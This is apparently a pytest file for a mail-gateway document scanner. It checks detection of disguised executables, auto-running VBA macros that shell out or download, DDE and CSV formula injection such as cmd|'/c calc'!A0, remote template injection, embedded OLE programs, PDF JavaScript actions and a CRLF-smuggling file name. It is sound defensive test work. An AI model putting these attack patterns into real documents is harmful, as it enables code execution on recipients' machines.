"""What makes a file dangerous by its content, what is daily life of offices, and what kind of file octets are."""

import base64
import struct

import pytest
from tests.lab import documents as made

from mailgate.documents.budget import Budget
from mailgate.documents.content import look_into, merged
from mailgate.documents.macros import judged
from mailgate.documents.objects import Embedded, object_of
from mailgate.documents.types import is_inert, types_of
from mailgate.model import Danger, File


def dangers(octets: bytes, name: str) -> set[str]:
    """Return the dangers of a file and of all inside it."""
    files = [each for each in merged(look_into(octets, name, "", name, Budget())) if isinstance(each, File)]
    return {danger.value for file in files for danger, _ in file.dangers}


_VBA = 'Sub AutoOpen()\n  CreateObject("WScr" & "ipt.Shell").Run x\n  {}\nEnd Sub\n'
_RUNS = _VBA.format("")
_FETCHES = _VBA.format('URLDownloadToFile 0, "http://example.com/", x, 0, 0')
_NATIVE = made.packager("a.exe", made.PROGRAM)[4:]
_OBJECT = struct.pack("<III", 0x0501, 2, 8) + b"Package\0" + bytes(8) + struct.pack("<I", len(_NATIVE)) + _NATIVE
_REMOTE = "http://example.com/a.dotm"


def _with_octets(before: str, digits: bytes) -> bytes:
    """Return an RTF with an object whose data is these octets as digits, the rest in binary (\\bin)."""
    rest = _OBJECT[len(digits) :]
    head = rf"{{\object\objemb{{\*\objclass Package}}{{\*{before}{digits.hex()}\bin{len(rest)} @}}}}"
    return made.rtf("a", head=head).replace(b"@", rest)


def with_relation(kind: str, target: str) -> bytes:
    return made.docx("a", parts={"word/_rels/document.xml.rels": made.relations(kind, target)})


def xls(texts: str, macro_sheet: bool = False, *records: bytes) -> bytes:
    return made.xls(texts, extra=b"".join(records), macro_sheet=macro_sheet)


_AUTO_OPEN = made.record(0x18, b"\x20" + bytes(14) + b"\x01" + bytes(5))
_DDE_BOOK = made.record(0x1AE, struct.pack("<HHB", 1, 9, 0) + b"cmd\x03/c dir")
_OTHER_BOOK = made.record(0x1AE, struct.pack("<HHB", 1, 9, 0) + b"\x01so\x03b.xls")


@pytest.mark.parametrize(
    ("octets", "name", "wants"),
    [
        # programs, whatever they are called
        (made.PROGRAM, "a.exe", "program"),
        (made.PROGRAM, "a.pdf", "program disguised"),
        (b"\x7fELF" + bytes(60), "a", "program"),
        (b"\xca\xfe\xba\xbe\0\0\0\x34", "a.class", "program"),
        (made.zipped({"A.class": "x"}), "a.jar", "program"),
        (made.ole({"a": b""}, bytes.fromhex("84100c0000000000c000000000000046")), "a.msi", "program"),
        (b"#!/bin/sh\n", "a.sh", "script"),
        (b"@echo off\r\n", "a.txt", "script disguised"),
        (b"<html><hta:application/></html>", "a.hta", "script"),
        (b"<job><script language='JScript'/></job>", "a.wsf", "script"),
        (b"Windows Registry Editor Version 5.00\r\n", "a.reg", "script"),
        (b"[InternetShortcut]\r\nURL=file://a/b.exe\r\n", "a.url", "shortcut"),
        (b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(56), "a.pdf", "shortcut disguised"),
        (bytes(32_769) + b"CD001" + bytes(2_048), "a.pdf", "disk-image disguised"),
        (b"ITSF" + bytes(60), "a.chm", "help"),
        (bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3"), "a.one", "notebook"),
        # two files at once
        (b"\xff\xd8\xff\xe0" + made.zipped({"A.class": "x"}), "a.jpg", "program disguised"),
        (b"MZ" + bytes(62) + made.pdf("x"), "a.pdf", "program disguised"),
        # an archive that calls itself a document
        (made.zipped({"a.exe": made.PROGRAM}), "a.zip", "program"),
        (made.zipped({"a.exe": made.PROGRAM}), "a.docx", "program disguised"),
        (made.zipped({"a.vbs": "x"}), "a.docx", "disguised"),
        # daily life of offices
        (made.rtf("x"), "a.doc", ""),
        (made.docx("x"), "a.doc", ""),
        (b"<html><table><tr><td>a</table>", "a.xls", ""),
        (b"a;b\r\n1;2\r\n", "a.xls", ""),
        (b"\x89PNG\r\n\x1a\n", "a.jpg", ""),
        (made.zipped({"a.docx": made.docx("x")}), "a.zip", ""),
        (with_relation("hyperlink", "https://example.com/"), "a.docx", ""),
        (with_relation("image", "https://example.com/a.png"), "a.docx", ""),
        (with_relation("attachedTemplate", "file:///C:/Users/a/Normal.dotm"), "a.docx", ""),
        (with_relation("attachedTemplate", "Normal.dotm"), "a.docx", ""),
        (made.xlsx(["MZ"]), "a.xlsx", ""),
        (xls("a", False, _OTHER_BOOK), "a.xls", ""),
        (made.pdf("a", catalog="/OpenAction[5 0 R/Fit]"), "a.pdf", ""),
        # what is fetched
        (with_relation("attachedTemplate", _REMOTE), "a.docx", "remote-template"),
        (with_relation("oleObject", r"\\192.0.2.1\a\b"), "a.docx", "remote-template"),
        (with_relation("frame", "mhtml:http://example.com/x!y"), "a.docx", "remote-template"),
        (made.rtf("a", head=rf"{{\*\template {_REMOTE}}}"), "a.doc", "remote-template"),
        (made.rtf("a", head=r"{\*\template C:\\Normal.dot}"), "a.doc", ""),
        # DDE
        (made.docx(body='<w:p><w:fldSimple w:instr="DDEAUTO a b"/></w:p>'), "a.docx", "dynamic-data"),
        (
            made.docx(
                body="<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E a</w:instrText></w:r></w:p>"
            ),
            "a.docx",
            "dynamic-data",
        ),
        (made.docx(body='<w:p><w:fldSimple w:instr="PAGE"/></w:p>', parts={}), "a.docx", ""),
        (made.doc("\x13 DDEAUTO a b\x14x\x15"), "a.doc", "dynamic-data"),
        (made.rtf(head=r"{\field{\*\fldinst DDEAUTO a}{\fldrslt b}}"), "a.rtf", "dynamic-data"),
        (made.xlsx(parts={"xl/externalLinks/externalLink1.xml": "<e><ddeLink/></e>"}), "a.xlsx", "dynamic-data"),
        (made.xlsx(cells="<row><c><f>cmd|'/c calc'!A0</f><v>1</v></c></row>"), "a.xlsx", "dynamic-data"),
        (made.xlsx(cells="<row><c><f>SUM(A1:A2)</f><v>1</v></c></row>"), "a.xlsx", ""),
        (xls("a", False, _DDE_BOOK), "a.xls", "dynamic-data"),
        (b"a,b\r\n=cmd|'/c calc'!A0,1\r\n", "a.csv", "dynamic-data"),
        (b"a,b\r\n=A1,-1\r\n", "a.csv", ""),
        (b"-a|b\r\n+c|d\r\n", "a.csv", ""),
        (made.odt("a", body="<text:p><text:dde-source/></text:p>"), "a.odt", "dynamic-data"),
        (b"<?xml version='1.0'?><Workbook><Cell Formula=\"cmd|'/c calc'!A0\"/></Workbook>", "a.xls", "dynamic-data"),
        (made.word_2003("a", more='<w:binData w:name="editdata.mso">AA==</w:binData>'), "a.doc", "macro"),
        (
            made.word_2003(
                "a", more=f'<w:binData w:name="a.bin">{base64.b64encode(made.PROGRAM).decode()}</w:binData>'
            ),
            "a.doc",
            "program embedded-program",
        ),
        (
            made.flat_docx(
                "a",
                parts='<pkg:part pkg:name="/word/embeddings/a.bin"><pkg:binaryData>'
                f"{base64.b64encode(made.PROGRAM).decode()}</pkg:binaryData></pkg:part>",
            ),
            "a.doc",
            "program embedded-program",
        ),
        # macros
        (made.docx("a", parts={"word/vbaProject.bin": made.vba_project("Sub A()\nEnd Sub")}), "a.docm", "macro"),
        (
            made.docx("a", parts={"word/vbaProject.bin": made.vba_project(_RUNS)}),
            "a.docm",
            "macro macro-autorun macro-shell",
        ),
        (
            made.xlsx(["a"], parts={"xl/vbaProject.bin": made.vba_project(_FETCHES)}),
            "a.xlsm",
            "macro macro-autorun macro-shell macro-download",
        ),
        (xls("a", True), "a.xls", "macro"),
        (xls("a", True, _AUTO_OPEN), "a.xls", "macro macro-autorun"),
        (
            xls("a", True, _AUTO_OPEN, made.record(0x06, bytes(22) + b"\x42\x01\x6e\x00")),
            "a.xls",
            "macro macro-autorun macro-shell",
        ),
        (
            made.xlsx(parts={"xl/macrosheets/sheet1.xml": "<s><row><c><f>EXEC(&quot;a&quot;)</f></c></row></s>"}),
            "a.xlsm",
            "macro macro-shell",
        ),
        (made.odt("a", parts={"Basic/Standard/M.xml": '<m>Sub Main : Shell("a")</m>'}), "a.odt", "macro macro-shell"),
        # what is embedded
        (
            made.docx(parts={"word/embeddings/o.bin": made.ole({"\x01Ole10Native": made.packager("a.exe", b"x")})}),
            "a.docx",
            "embedded-program",
        ),
        (made.rtf(head=r"{\object{\*\objdata " + _OBJECT.hex() + "}}"), "a.doc", "program embedded-program"),
        (_with_octets(r"\objdata ", b""), "a.rtf", "program embedded-program"),
        (_with_octets(r"\objdata ", _OBJECT[:20]), "a.rtf", "program embedded-program"),
        (_with_octets(r"\objdata\x {}", _OBJECT[:1]), "a.rtf", "program embedded-program"),
        (
            made.pdf("x", objects=[made.stream(made.PROGRAM, "/Type/EmbeddedFile")]),
            "a.pdf",
            "program embedded-program",
        ),
        (
            made.pdf("x", objects=[made.stream(made.PROGRAM, "/Params<</Size 128>>", compress=False)]),
            "a.pdf",
            "program embedded-program",
        ),
        # PDF
        (made.pdf("a", catalog="/OpenAction<</S/JavaScript/JS(a)>>"), "a.pdf", "active-pdf"),
        (made.pdf("a", catalog="/OpenAction<</S/#4aavaScript/J#53(a)>>"), "a.pdf", "active-pdf"),
        (
            made.pdf("a", objects=[made.stream(b"9 0 <</S/Launch>>", "/Type/ObjStm/N 1/First 4")]),
            "a.pdf",
            "active-pdf",
        ),
    ],
)
def test_dangers(octets: bytes, name: str, wants: str) -> None:
    assert dangers(octets, name) == set(wants.split())


@pytest.mark.parametrize(
    ("code", "wants"),
    [
        ("Sub Workbook_Open()", {Danger.MACRO_AUTORUN}),
        ("Sub Document_Open()", {Danger.MACRO_AUTORUN}),
        ('Sub Tinh_Tong()\nRange("A1").Select', set[Danger]()),
        ('x = Shell("a", 1)', {Danger.MACRO_SHELL}),
        ('\' Shell("a")', set[Danger]()),
        ('Rem Shell("a")', set[Danger]()),
        ('CreateObject("W" & "Script.S" + "hell")', {Danger.MACRO_SHELL}),
        ('CreateObject("MSXML2.XMLHTTP")', {Danger.MACRO_DOWNLOAD}),
    ],
)
def test_what_code_does(code: str, wants: set[Danger]) -> None:
    assert {threat.danger for threat in judged(code, "VBA")} == wants


def test_no_detail_holds_what_a_name_smuggles() -> None:
    octets = made.docx(parts={"word/embeddings/a.exe:b.z\r\nX-Header: c": b"\0\1\2"})
    (file, _) = [each for each in merged(look_into(octets, "a", "", "a", Budget())) if isinstance(each, File)]
    assert file.dangers == ((Danger.EMBEDDED_PROGRAM, "exe"),)


def test_no_detail_holds_text_of_a_document() -> None:
    octets = made.rtf("bí mật", head=rf"{{\*\template {_REMOTE}}}")
    (file,) = [each for each in merged(look_into(octets, "a", "", "a", Budget())) if isinstance(each, File)]
    assert file.dangers == ((Danger.REMOTE_TEMPLATE, "template"),)


@pytest.mark.parametrize("cut", range(0, len(_OBJECT), 5))
def test_an_object_that_is_cut(cut: int) -> None:
    assert object_of(_OBJECT) == Embedded("a.exe", made.PROGRAM, "Package")
    found = object_of(_OBJECT[:cut])
    assert not isinstance(found, Embedded) or len(found.octets) <= cut


@pytest.mark.parametrize(
    ("octets", "wants"),
    [
        (b"", ()),
        (b"\0\1\2\3", ()),
        (b"abc", ("text",)),
        ("Mật".encode("utf-16"), ("text",)),
        (b"V\xa8n b\xb6n", ("text",)),
        (b"MZ la hai chu", ("text",)),
        (b"<?xml version='1.0'?><a/>", ("xml",)),
        (b"<?xml version='1.0'?><html/>", ("html",)),
        (b"<svg/>", ("svg",)),
        (b"Subject: a\r\nFrom: b\r\n\r\n", ("eml",)),
        (b"junk before\n%PDF-1.4", ("text", "pdf")),
        (b"x" * 1_025 + b"%PDF-1.4", ("text",)),
        (made.zipped({"[Content_Types].xml": "", "word/document.xml": ""}), ("docx",)),
        (made.zipped({"[Content_Types].xml": "", "word/a": "", "word/vbaProject.bin": ""}), ("docm",)),
        (made.zipped({"mimetype": "x"}), ("zip",)),
        (made.zipped({}), ("zip",)),
        (made.odt(kind="presentation"), ("odp",)),
        (made.PROGRAM + made.zipped({"a": "b"}), ("exe", "zip")),
        (b"Rar!\x1a\x07\x01\0", ("rar",)),
        (bytes(512) + b"conectix" + bytes(504), ("vhd",)),
        (b"\xca\xfe\xba\xbe\0\0\0\x02", ("macho",)),
    ],
)
def test_types(octets: bytes, wants: tuple[str, ...]) -> None:
    assert types_of(octets) == wants


@pytest.mark.parametrize(
    ("head", "name", "wants"),
    [
        (b"\xff\xd8\xff\xe0", "a.jpg", True),
        (b"\xff\xd8\xff\xe0", "a.JPEG", True),
        (b"\xff\xd8\xff\xe0", "a.png", False),
        (b"\xff\xd8\xff\xe0", "a.jpg.exe", False),
        (b"\xff\xd8\xff\xe0", "a", False),
        (b"\0\0\0\x18ftypmp42", "a.mp4", True),
        (b"<svg/>", "a.svg", False),
        (b"", "a.jpg", False),
        (b"MZ\0\0", "a.jpg", False),
    ],
)
def test_what_needs_no_look(head: bytes, name: str, wants: bool) -> None:
    assert is_inert(head, name) == wants
